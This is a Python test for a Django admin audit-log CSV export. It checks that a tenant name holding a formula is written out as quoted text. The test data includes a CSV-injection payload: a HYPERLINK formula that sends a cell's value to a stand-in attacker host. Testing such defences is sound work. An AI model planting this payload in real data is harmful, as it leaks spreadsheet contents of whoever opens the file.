"""The audit trail downloads as CSV from the admin, and a formula in a recorded name is
written as text (tenants/reports/csvexport.py)."""

from __future__ import annotations

import csv
import io
from typing import Any

from tenants.models import AuditEntry, Tenant
from tests.foundation.audit_helpers import logged_in, operator

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def test_the_audit_csv_export_neutralises_formulas(cast: Any) -> None:
    Tenant.objects.create(name=FORMULA, slug="evil", default_tier=cast.batch)
    client = logged_in(operator("auditor", superuser=False, codenames=("view_auditentry",)))
    ids = list(AuditEntry.objects.values_list("id", flat=True))
    response = client.post(
        "/admin/tenants/auditentry/", {"action": "export_csv", "_selected_action": ids}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == len(ids)
    [evil] = [row for row in rows if "HYPERLINK" in row["object_repr"]]
    assert evil["object_repr"] == "'" + FORMULA
    assert (evil["model"], evil["action"], evil["actor"]) == ("tenants.tenant", "create", "system")
    assert evil["changes"].startswith("{") and "HYPERLINK" in evil["changes"]
